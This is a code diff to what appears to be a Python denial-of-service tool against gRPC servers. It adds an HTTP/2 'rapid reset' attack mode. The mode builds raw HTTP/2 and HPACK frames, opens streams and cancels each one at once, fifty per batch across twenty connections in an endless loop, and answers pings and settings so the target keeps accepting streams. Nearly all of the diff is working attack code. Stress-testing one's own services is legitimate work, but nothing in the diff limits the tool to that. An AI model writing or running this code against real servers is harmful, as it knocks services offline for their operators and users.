@@ -6,6 +6,7 @@ Prints "attacking" once it has begun. It stays on the machine's last core.
 """
 
 import asyncio
+import contextlib
 import itertools
 import os
 import socket
@@ -73,6 +74,51 @@ async def connections(address: str, opening: bytes, count: int) -> None:
     await asyncio.gather(*(one() for _ in range(count)))
 
 
+def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    """One HTTP/2 frame. Source: RFC 9113 section 4.1."""
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
+
+
+async def resets(address: str, methods: list[str], count: int) -> None:
+    """Opens streams and cancels each with the next frame, 50 at a time, on that many connections."""
+
+    def literal(name: str, value: str) -> bytes:
+        """A header as HPACK literal without indexing. Source: RFC 7541 section 6.2.2."""
+        return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
+
+    host, _, port = address.rpartition(":")
+    common = literal(":method", "POST") + literal(":scheme", "http") + literal(":authority", "x")
+    common += literal("content-type", "application/grpc") + literal("te", "trailers")
+    blocks = itertools.cycle([common + literal(":path", method) for method in methods])
+
+    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        """Acknowledges pings and settings, without which a server takes no more streams."""
+        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
+            while head := await reader.readexactly(9):
+                data = await reader.readexactly(int.from_bytes(head[:3], "big"))
+                if head[3] in (4, 6) and not head[4] & 1:
+                    writer.write(frame(head[3], 1, 0, data if head[3] == 6 else b""))
+
+    async def one() -> None:
+        while True:
+            with contextlib.suppress(OSError):
+                reader, writer = await asyncio.open_connection(host, int(port))
+                writer.write(PREFACE)
+                answering = asyncio.ensure_future(answer(reader, writer))
+                stream = 1
+                while not answering.done():
+                    for _ in range(50):
+                        opened = frame(1, 4, stream, next(blocks))
+                        writer.write(opened + frame(3, 0, stream, (8).to_bytes(4, "big")))
+                        stream += 2
+                    await writer.drain()
+                    await asyncio.sleep(0.005)
+                writer.close()
+            await asyncio.sleep(0.05)
+
+    await asyncio.gather(*(one() for _ in range(count)))
+
+
 async def attack(address: str, kind: str, methods: list[str]) -> None:
     many = [channel(address) for _ in range(20)]
     turn = itertools.cycle(methods)
@@ -93,6 +139,10 @@ async def attack(address: str, kind: str, methods: list[str]) -> None:
             await asyncio.gather(*(repeat(many[i % 20].unary_unary(next(turn)), LARGE) for i in range(400)))
         case "large-checks":
             await asyncio.gather(*(repeat(many[i % 20].unary_unary(CHECK), LARGE) for i in range(400)))
+        case "resets":
+            await resets(address, methods, 20)
+        case "check-resets":
+            await resets(address, [CHECK], 20)
         case "idle-connections":
             await connections(address, b"", 3000)
         case "silent-connections":
@@ -110,6 +160,8 @@ KINDS = [
     "calls",
     "large",
     "large-checks",
+    "resets",
+    "check-resets",
     "idle-connections",
     "silent-connections",
     "noise",
